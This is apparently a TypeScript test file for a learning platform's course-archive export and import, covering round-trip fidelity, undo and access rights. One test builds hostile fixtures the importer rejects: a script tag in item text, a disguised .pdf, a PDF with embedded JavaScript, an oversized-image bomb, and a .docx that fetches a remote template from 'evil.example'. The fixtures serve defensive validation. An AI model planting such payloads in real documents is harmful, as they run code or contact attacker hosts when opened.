/** A course leaves as one archive and comes back whole: the same outline, texts, questions, films, captions and pictures. */
import { readdir, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import sharp from 'sharp'
import { afterAll, beforeAll, expect, test, vi } from 'vitest'
import {
  applyCourseImport,
  type CourseImport,
  courseImport,
  courseImports,
  postCourseImport,
  undoCourseImport,
} from '#contracts/authoring/archives.office.ts'
import { putCaptions } from '#contracts/authoring/library.ts'
import { postItem, patchItem } from '#contracts/authoring/items.ts'
import { getOutline, postSection } from '#contracts/authoring/outlines.ts'
import { addSkill, courseSkills, retireSkill } from '#contracts/learning/skills/skills.office.ts'
import { officeCourse, putCourse } from '#contracts/catalogue/courses.office.ts'
import { newId } from '#server/platform/crypto.ts'
import { takePicture } from '#server/platform/pictures/take-picture.ts'
import { sql } from '#server/platform/postgres/database.ts'
import { mediaFolder } from '#server/platform/storage/folder-storage.ts'
import type { TestPerson } from '#tests/world.ts'
import { formOf, replaced, type ZipPart, zipOf } from '#tests/zip-of.ts'
import { uploadWorld } from '../uploads/upload-world.ts'
import { openArchive } from './open-archive.ts'

let w: Awaited<ReturnType<typeof uploadWorld>>
let author: TestPerson
beforeAll(async () => {
  w = await uploadWorld()
  author = await w.academy.staff('courses.view', 'courses.edit', 'courses.create', 'courses.delete')
})
afterAll(() => w.academy.close())

/** A second of silence. */
function silence(): Buffer {
  const head = Buffer.alloc(44)
  head.write('RIFF', 0, 'latin1')
  head.writeUInt32LE(36 + 8000, 4)
  head.write('WAVEfmt ', 8, 'latin1')
  head.writeUInt32LE(16, 16)
  head.writeUInt16LE(1, 20)
  head.writeUInt16LE(1, 22)
  head.writeUInt32LE(8000, 24)
  head.writeUInt32LE(8000, 28)
  head.writeUInt16LE(1, 32)
  head.writeUInt16LE(8, 34)
  head.write('data', 36, 'latin1')
  head.writeUInt32LE(8000, 40)
  return Buffer.concat([head, Buffer.alloc(8000, 128)])
}
const words = (en: string, bn = '') => ({ en, bn })

async function picture(): Promise<string> {
  const bytes = await sharp({ create: { width: 600, height: 300, channels: 3, background: '#a33' } })
    .png()
    .toBuffer()
  const { database, storage } = w.academy
  return (await takePicture({ database, storage, viewer: author }, { bytes })).url
}

/** With a cover, HTML that shows a picture, a quiz, a film with captions, a file, and two skills; a third was taken out. */
async function written() {
  const { academy } = w
  const course = await academy.course()
  const params = { course: course.course_id }
  const before = (await academy.call(officeCourse, { params }, { as: author })).body.data
  const { course_id: _, slug: __, is_published: ___, batches: ____, missing: _____, can: ______, ...record } = before
  const body = {
    ...record,
    cover: await picture(),
    intro: words(`<p>Intro <img src="${await picture()}" alt="Seam" /></p>`, '<p>ভূমিকা</p>'),
    faqs: [{ question: words('For whom?'), answer: words('For cutters.') }],
  }
  const saved = await academy.call(putCourse, { params, body: body as never }, { as: author })
  expect(saved.status, saved.text).toBe(200)
  await academy.call(getOutline, { params }, { as: author })
  const section = (await academy.call(postSection, { params, body: { title: words('Files', 'ফাইল') } }, { as: author }))
    .body.data.section_id
  const add = async (kind: 'file' | 'audio' | 'quiz', title: string, changes: object) => {
    const added = await academy.call(
      postItem,
      { params: { section }, body: { kind, title: words(title) } },
      { as: author },
    )
    const item = { item: added.body.data.item_id }
    const patched = await academy.call(patchItem, { params: item, body: { changes } }, { as: author })
    expect(patched.status, patched.text).toBe(200)
  }
  const of = course.course_id
  const upload = async (kind: string, name: string, content: Buffer) => {
    const begun = await w.begin(author, { kind, name, bytes: content.length, of })
    const path = String(begun?.headers.location)
    await w.patch(author, path, 0, content)
    return path.slice(path.lastIndexOf('/') + 1)
  }
  const plan = await upload('file', 'Line plan.pdf', Buffer.from('%PDF-1.7\nplan'))
  await w.settled(plan)
  const release = { on: null, after_days: null, waits: false, due_after_days: 14 }
  await add('file', 'The plan', { file: plan, body: words('<p>Print it.</p>'), release })
  const talk = newId()
  await academy.storage.put('films/talk/original.wav', silence(), { contentType: 'audio/wav' })
  await academy.database.run(sql`
    insert into library_file (id, course_id, kind, type, name, media_type, bytes, state, folder, parts, address, video)
    values (${talk}, ${of}, 'audio', 'wav', 'Talk.wav', 'audio/wav', 8044, 'ready', 'talk', '{original.wav}',
      '/media/uploads/films/talk/original.wav', '{"source":"/media/uploads/films/talk/original.wav","captions":{}}')`)
  const captions = Buffer.from('WEBVTT\n\n00:00:01.000 --> 00:00:02.000\nকাপড়\n')
  const put = await academy.call(
    putCaptions,
    { params: { file: talk, language: 'bn' }, body: formOf(captions, 'a.vtt', 'captions').payload } as never,
    { as: author, headers: formOf(captions).headers },
  )
  expect(put.status, put.text).toBe(200)
  await add('audio', 'The talk', { file: talk })
  for (const name of ['Side seam', 'Former skill', 'Needle change']) {
    const body = {
      name: words(name),
      machine: words('Overlock'),
      criteria: [words('Even'), words('Within 40 seconds')],
    }
    const { skill_id } = (await academy.call(addSkill, { params, body: body as never }, { as: author })).body.data
    if (name === 'Former skill') await academy.call(retireSkill, { params: { skill: skill_id } }, { as: author })
  }
  const id = '0199aaaa-0000-7000-8000-000000000001'
  await add('quiz', 'Check yourself', {
    questions: [
      {
        id,
        kind: 'single',
        text: words('Which?'),
        explanation: {},
        points: 1,
        options: [words('300'), words('400')],
        answer: 0,
      },
      {
        ...{ id: newId(), kind: 'hotspot', text: words('Tap the fault.'), explanation: {}, points: 1 },
        options: { picture: await picture(), width: 600, height: 300, alt: words('A shirt') },
        answer: { areas: [{ shape: 'rect', x: 1, y: 2, width: 3, height: 4, name: words('Collar') }] },
      },
    ],
  })
  return course
}

const exported = (courseId: string, as: TestPerson) =>
  w.academy.app.inject({
    url: `/api/admin/courses/${courseId}/archive.zip`,
    headers: { authorization: `Bearer ${as.token}` },
  })
async function unpacked(bytes: Buffer) {
  const path = join(w.academy.config.dataDir, 'unpacked.zip')
  await writeFile(path, bytes)
  const archive = await openArchive(path)
  const manifest = String(await archive.read('course.json'))
  archive.close()
  return { manifest, names: [...archive.sizes.keys()] }
}
const check = (bytes: Buffer, as = author) =>
  w.academy.call(postCourseImport, { body: formOf(bytes).payload } as never, { as, headers: formOf(bytes).headers })
const apply = (id: string, body: object = {}, as = author) =>
  w.academy.call(applyCourseImport, { params: { import: id }, body }, { as })
const ended = (id: string) =>
  vi.waitFor(
    async () => {
      const { data } = (await w.academy.call(courseImport, { params: { import: id } }, { as: author })).body
      if (data.state === 'applying') throw new Error('It is under way')
      return data
    },
    { timeout: 30_000, interval: 50 },
  )
const stored = async () =>
  (await readdir(mediaFolder(w.academy.config.dataDir), { recursive: true, withFileTypes: true }))
    .filter((each) => each.isFile())
    .map((each) => join(each.parentPath, each.name))
    .toSorted()

test('what is exported and imported is exported again as the same course', async () => {
  const course = await written()
  const first = await exported(course.course_id, author)
  expect([first.statusCode, first.headers['content-type']]).toEqual([200, 'application/zip'])
  const { manifest, names } = await unpacked(first.rawPayload)
  expect(names).toEqual([
    ...['course.json', 'pictures/1.webp', 'pictures/2.webp'],
    ...['files/1.pdf', 'files/2.wav', 'files/2.bn.vtt', 'pictures/3.webp'],
  ])
  expect(manifest).toContain('"due_after_days": 14')
  for (const secret of [course.course_id, author.email, 'price']) expect(manifest).not.toContain(secret)

  const before = await stored()
  const checked = await check(first.rawPayload)
  expect([checked.status, checked.text.slice(0, 400)]).toEqual([200, expect.anything()])
  const { import_id, counts, rows } = checked.body.data
  expect(rows).toEqual([])
  expect(counts).toMatchObject({ sections: 2, items: 6, files: 2, pictures: 3, captions: 1, skills: 2, bad: 0 })
  await w.academy.database.run(sql`update course set slug = slug || '-old' where id = ${course.course_id}`)
  expect((await apply(import_id)).body.data.state).toBe('applying')
  const applied = await ended(import_id)
  expect(applied).toMatchObject({ state: 'applied', failure: null, done: 7, total: 7 })
  const asked = await w.academy.database.first<{ picture: string }>(sql`
    select q.value #>> '{options,picture}' as picture from item i, jsonb_array_elements(i.content -> 'questions') q (value)
    where i.course_id = ${applied.course_id} and q.value ->> 'kind' = 'hotspot'`)
  expect((await w.academy.app.inject({ url: asked?.picture ?? '' })).statusCode).toBe(200)
  const second = await exported(applied.course_id ?? '', author)
  expect((await unpacked(second.rawPayload)).manifest).toBe(manifest)
  const { skills } = (
    await w.academy.call(courseSkills, { params: { course: applied.course_id ?? '' } }, { as: author })
  ).body.data
  expect(skills.map(({ name, criteria }) => [name.en, criteria.length])).toEqual([
    ['Side seam', 2],
    ['Needle change', 2],
  ])
  const { data } = (await w.academy.call(officeCourse, { params: { course: applied.course_id ?? '' } }, { as: author }))
    .body
  expect([data.slug, data.is_published, data.mentors, data.batches]).toEqual([course.slug, false, [], []])
  expect((await apply(import_id)).body.error.code).toBe('not_checked')

  const undone = await w.academy.call(undoCourseImport, { params: { import: import_id } }, { as: author })
  expect([undone.status, undone.body.data.state]).toEqual([200, 'undone'])
  await vi.waitFor(async () => expect(await stored()).toEqual(before), { timeout: 10_000 })
  expect((await exported(applied.course_id ?? '', author)).statusCode).toBe(404)
  const again = await w.academy.call(undoCourseImport, { params: { import: import_id } }, { as: author })
  expect(again.body.error.code).toBe('not_applied')
}, 120_000)

const item = (kind: string, title: string, more: object = {}) => ({
  kind,
  slug: title.toLowerCase().replaceAll(' ', '-'),
  content: { title: { en: title }, minutes: 5, is_preview: false, body: {}, ...more },
})
const record = {
  ...{ slug: 'seams', name: { en: 'Seams' }, subtitle: {}, overview: {}, intro: {}, course_type: 'masterclass' },
  ...{ level: 'basic', language: 'en', hours: 3, progress_status: 2, certificate_valid_months: null, career: {} },
  ...{
    key_learning: [],
    prerequisites: [],
    target_learners: [],
    faqs: [],
    industries: [],
    subjects: [],
    cover: null,
    banner: null,
  },
}
const manifestOf = (items: object[], more: object = {}, files: object[] = [], skills: object[] = []) =>
  JSON.stringify({
    ...{ format: 'course-archive', version: 1, course: { ...record, ...more } },
    ...{ sections: [{ title: { en: 'One' }, items }], skills, files },
  })
const zipped = (manifest: string, parts: ZipPart[] = []) =>
  zipOf([{ name: 'course.json', content: manifest }, ...parts])
const told = (data: CourseImport) => data.rows.map(({ part, no, weight, message }) => [part, no, weight, message])

/** A document whose template lies on another machine. */
const fetching = () =>
  zipOf([
    { name: '[Content_Types].xml', content: '<Types/>' },
    { name: 'word/document.xml', content: '<document/>' },
    {
      name: 'word/_rels/settings.xml.rels',
      content:
        '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/></Relationships>',
    },
  ])

test('each bad part is told with its number, and left out only when somebody says so', async () => {
  const bomb = await sharp({ create: { width: 100, height: 100, channels: 3, background: '#fff' } })
    .png()
    .toBuffer()
  bomb.writeUInt32BE(40_000, 16)
  bomb.writeUInt32BE(25_000, 20)
  const packed = await zipped(
    manifestOf(
      [
        item('reading', 'Fine', { body: { en: '<p>Text</p><script>alert(1)</script>' } }),
        item('hologram', 'Strange'),
        item('reading', 'Wrong', { minutes: 'many' }),
        item('file', 'Gone', { file: 'files/9.pdf' }),
        item('file', 'Disguised', { file: 'files/1.pdf' }),
        item('reading', 'Fine'),
      ],
      { cover: 'pictures/1.png', subjects: ['no-such-subject'] },
      ['1.pdf', '2.pdf', '3.pdf', '4.docx'].map((each) => ({
        ...{ file: `files/${each}`, kind: 'file', name: `a.${each.slice(2)}`, captions: {} },
      })),
      [
        { name: { en: 'Side seam' }, machine: {}, criteria: [{ en: 'Even' }] },
        { name: { en: 'Without criteria' }, machine: {}, criteria: [] },
      ],
    ),
    [
      { name: 'files/1.pdf', content: '<html><script>' },
      { name: 'files/2.pdf', content: '%PDF-1.7 whole words', isPacked: false },
      { name: 'files/3.pdf', content: '%PDF-1.7 << /S /JavaScript /JS (app.alert(1)) >>' },
      { name: 'files/4.docx', content: await fetching() },
      { name: 'pictures/1.png', content: bomb },
    ],
  )
  const archive = replaced(packed, 'whole words', 'other words')
  const { data } = (await check(archive)).body
  expect(told(data)).toEqual([
    ['subject', 1, 'left_out', '“no-such-subject” does not exist in this academy.'],
    ['item', 2, 'left_out', 'Items of the type “hologram” are not supported here.'],
    ['item', 3, 'left_out', expect.stringMatching(/^“minutes” cannot be imported: /)],
    ['item', 4, 'left_out', '“files/9.pdf” is not in the archive.'],
    ['item', 5, 'left_out', 'It uses “files/1.pdf”, which cannot be imported.'],
    ['skill', 2, 'left_out', expect.stringMatching(/^“criteria” cannot be imported: /)],
    ['file', 1, 'left_out', 'Its content is not what its name says.'],
    ['file', 2, 'left_out', 'It is damaged and cannot be read.'],
    ['file', 3, 'left_out', 'This PDF has programs or files inside.'],
    ['file', 4, 'left_out', 'This document fetches something from another machine when it is opened.'],
    ['picture', 1, 'left_out', 'A picture can have up to 40 million pixels.'],
    ['item', 1, 'remark', 'Parts that are not allowed were removed from its text: script'],
  ])
  expect(data.counts).toMatchObject({ items: 6, skills: 2, bad: 11 })
  expect((await apply(data.import_id)).body.error.code).toBe('has_errors')
  expect((await apply(data.import_id, { leave_out_bad: true })).status).toBe(200)
  const applied = await ended(data.import_id)
  const outline = await w.academy.call(getOutline, { params: { course: applied.course_id ?? '' } }, { as: author })
  expect(outline.body.data.sections[0]?.items.map(({ title }) => title.en)).toEqual(['Fine', 'Fine'])
  const bodies = await w.academy.database.query<{ slug: string; body: object }>(
    sql`select slug, content -> 'body' as body from item where course_id = ${applied.course_id} order by position`,
  )
  expect(bodies).toEqual([
    { slug: 'fine', body: { en: '<p>Text</p>' } },
    { slug: 'fine-2', body: {} },
  ])
  const kept = await w.academy.database.query(
    sql`select name ->> 'en' as name from skill where course_id = ${applied.course_id}`,
  )
  expect(kept).toEqual([{ name: 'Side seam' }])
})

test('a course whose own record is wrong is not imported at all', async () => {
  const { data } = (await check(await zipped(manifestOf([item('reading', 'Fine')], { level: 'wizard' })))).body
  expect(told(data)[0]?.slice(0, 3)).toEqual(['course', 1, 'blocks'])
  expect((await apply(data.import_id, { leave_out_bad: true })).body.error.code).toBe('has_errors')
})

test('an import is undone until the course was published or anybody has it, and the address is free', async () => {
  const archive = await zipped(manifestOf([item('reading', 'Fine')]))
  const imported = async () => {
    const { data } = (await check(archive)).body
    await apply(data.import_id)
    return ended(data.import_id)
  }
  const [one, two] = [await imported(), await imported()]
  const slugOf = async (id: string | null) =>
    (await w.academy.database.first<{ slug: string }>(sql`select slug from course where id = ${id}`))?.slug
  expect(await slugOf(one.course_id)).not.toBe(await slugOf(two.course_id))
  await w.academy.database.run(
    sql`insert into course_revision (course_id, number, outline) values (${one.course_id}, 1, '{"sections":[]}')`,
  )
  const undo = (id: string) => w.academy.call(undoCourseImport, { params: { import: id } }, { as: author })
  expect((await undo(one.import_id)).body.error.code).toBe('in_use')
  expect((await undo(two.import_id)).status).toBe(200)
  const list = await w.academy.call(courseImports, {}, { as: author })
  expect(list.body.data.slice(0, 2).map(({ state }) => state)).toEqual(['undone', 'applied'])
})

test('only staff who may do so export and import', async () => {
  const course = await w.academy.course()
  const looker = await w.academy.staff('courses.view')
  expect((await exported(course.course_id, looker)).statusCode).toBe(403)
  expect((await exported(course.course_id, w.mentor)).statusCode).toBe(403)
  expect((await check(await zipped(manifestOf([])), w.editor)).status).toBe(403)
})
